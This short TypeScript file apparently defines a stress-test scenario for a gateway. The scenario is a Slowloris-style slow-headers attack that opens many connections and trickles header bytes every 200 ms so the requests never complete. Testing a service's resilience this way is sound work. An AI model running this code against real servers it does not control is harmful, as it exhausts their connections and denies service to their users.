import { attackOnConnections, scenario } from "../scenario.ts";

/** Connections of one client. */
const CONNECTIONS_EACH = 10;

const BYTE_EVERY_MS = 200;

export const slowHeaders = scenario({
  name: "slow-headers",
  title: "without a token: request headers that come byte by byte and never end",
  async attack({ clients, ...context }) {
    const many = { ...context, clients: clients * CONNECTIONS_EACH };
    return await attackOnConnections(many, (socket) => {
      socket.write("GET / HTTP/1.1\r\nHost: gateway.example\r\nX-Slow: ");
      const timer = setInterval(() => socket.write("x"), BYTE_EVERY_MS);
      socket.once("close", () => clearInterval(timer));
    });
  },
});
